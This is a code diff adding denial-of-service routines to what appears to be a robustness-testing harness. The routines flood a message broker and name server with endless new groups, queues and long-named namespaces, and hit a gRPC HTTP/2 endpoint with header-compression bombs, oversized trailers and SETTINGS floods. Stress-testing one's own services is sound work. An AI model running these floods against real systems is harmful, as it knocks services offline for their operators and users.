@@ -350,6 +350,82 @@ def _registration(number: int, topics: int) -> bytes:
     return codec.encode(Command(103, ext, body))
 
 
+# ---- ever new names ----
+
+
+def locks(target: Target) -> None:
+    """Ever new queues of ever new groups are locked."""
+    with many(target, "broker", 8) as socks:
+        for n in range(200):
+            queues = [{"topic": f"{'x' * 100}{n}-{k}", "queueId": k} for k in range(2000)]
+            body = {"consumerGroup": f"g{n}", "clientId": "c", "mqSet": queues}
+            data = codec.encode(Command(41, {}, json.dumps(body).encode()))
+            write([socks[n % len(socks)]], data)
+            read_away(socks[n % len(socks)], 0.02)
+        for sock in socks:
+            read_away(sock)
+
+
+def tables(target: Target) -> None:
+    """Ever new groups are asked for, get modes and offsets, and are forbidden a topic."""
+    with many(target, "broker", 4) as socks:
+        for n in range(6000):
+            group = f"{'x' * 200}{n}"
+            mode = {"topic": "full", "consumerGroup": group, "mode": "POP"}
+            asks = (
+                Command(352, {"group": group}),
+                Command(401, {}, json.dumps(mode).encode()),
+                Command(353, {"group": group, "topic": "full", "readable": "false"}),
+                Command(314, {"srcGroup": "g", "destGroup": group, "topic": "full"}),
+            )
+            for sock, ask in zip(socks, asks, strict=True):
+                write([sock], codec.encode(ask))
+            if n % 100 == 0:
+                for sock in socks:
+                    read_away(sock, 0.005)
+        for sock in socks:
+            read_away(sock)
+
+
+def key_values(target: Target) -> None:
+    """Ever new namespaces at the name server, and very many keys in one."""
+    with target.connect("names") as sock:
+        for n in range(2000):
+            ext = {"namespace": f"{'x' * 30_000}{n}", "key": "k", "value": ""}
+            write([sock], codec.encode(Command(100, ext)))
+        for n in range(40_000):
+            ext = {"namespace": "n", "key": f"{n:x}", "value": ""}
+            write([sock], codec.encode(Command(100, ext)))
+            if n % 1000 == 0:
+                read_away(sock, 0.005)
+        read_away(sock)
+
+
+# ---- HTTP/2 ----
+
+
+def bombs(target: Target) -> None:
+    """Bytes that name kilobytes of headers: in trailers, and in calls whose headers are a little
+    too large; then SETTINGS, each of which changes the windows of thousands of calls."""
+    entry = b"\x40" + text(b"x") + text(b"y" * 3900)
+    for trailers in (True, False):
+        with target.connect("grpc") as sock:
+            write([sock], PREFACE + call(1, "Telemetry", entry))
+            for stream in range(3, 1000, 2):
+                if trailers:
+                    end = frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\xbe" * 16000)
+                    write([sock], call(stream, "Telemetry") + end)
+                else:
+                    write([sock], call(stream, "Telemetry", b"\xbe" * 14))
+            read_away(sock)
+    with target.connect("grpc") as sock:
+        write([sock], PREFACE + b"".join(call(2 * n + 1, "Telemetry") for n in range(5000)))
+        read_away(sock)
+        for n in range(2000):
+            write([sock], frame(4, 0, 0, struct.pack(">HI", 4, 65535 + n % 2)))
+        read_away(sock)
+
+
 # ---- nonsense ----
 
 
@@ -376,6 +452,6 @@ ATTACKS: dict[str, Callable[[Target], None]] = {
     for made in (
         large_frames, small_frames, half_calls, half_requests, half_proxies, every_code, routes,
         entries, lists, strangers, slow_readers, slow_calls, long_bodies, heartbeats, members,
-        registrations, nonsense,
+        registrations, locks, tables, key_values, bombs, nonsense,
     )
 }  # fmt: skip
